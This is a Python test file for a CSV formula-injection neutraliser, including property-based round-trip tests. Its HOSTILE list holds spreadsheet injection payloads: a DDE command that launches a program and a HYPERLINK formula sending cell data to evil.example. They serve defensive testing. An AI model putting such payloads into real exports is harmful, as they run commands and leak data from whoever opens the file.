"""The CSV cell neutraliser (issue 13, item 4): hostile ids never start a cell with a formula
character, and our readers give the original id back."""

from __future__ import annotations

import csv
import io

import pandas as pd
from hypothesis import given
from hypothesis import strategies as st

from osteoscan.csvsafe import TRIGGERS, neutralise, neutralise_frame, restore, restore_frame

HOSTILE = ["=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?x="&A1,"click")', "@SUM(1)",
           "+1+2", "-2+3", "\t=1", "\r=1", "'=already quoted"]


def test_the_reported_strings_are_neutralised_and_restored():
    for s in HOSTILE:
        assert neutralise(s).startswith("'") and restore(neutralise(s)) == s
    for s in ("P001", "1.2.840.1", "-0.5", "+3", "1e-5", "", "'plain"):
        assert neutralise(s) == s and restore(s) == s
    assert neutralise(0.25) == 0.25 and neutralise(None) is None


@given(st.text(alphabet=st.sampled_from(["'", "=", "+", "-", "@", "\t", "\r", "a", "1", ".", " "]),
               max_size=8))
def test_round_trip_and_no_cell_starts_a_formula(s):
    safe = neutralise(s)
    assert restore(safe) == s
    assert not safe.startswith(TRIGGERS) or safe.lstrip("+-").replace(".", "", 1).isdigit()


def test_frames_round_trip_through_a_csv_file_and_numbers_stay_numbers():
    ids = [h for h in HOSTILE if "\r" not in h]  # pandas leaves a CR unquoted: CSV readers split there
    frame = pd.DataFrame({"study_id": ids, "p": [-0.5] * len(ids), "n": range(len(ids))})
    text = neutralise_frame(frame).to_csv(index=False)
    cells = [row[0] for row in csv.reader(io.StringIO(text, newline=""))][1:]
    assert all(c.startswith("'") for c in cells)
    back = restore_frame(pd.read_csv(io.StringIO(text, newline=""), dtype={"study_id": str}, keep_default_na=False))
    assert back["study_id"].tolist() == ids and back["p"].tolist() == [-0.5] * len(ids)
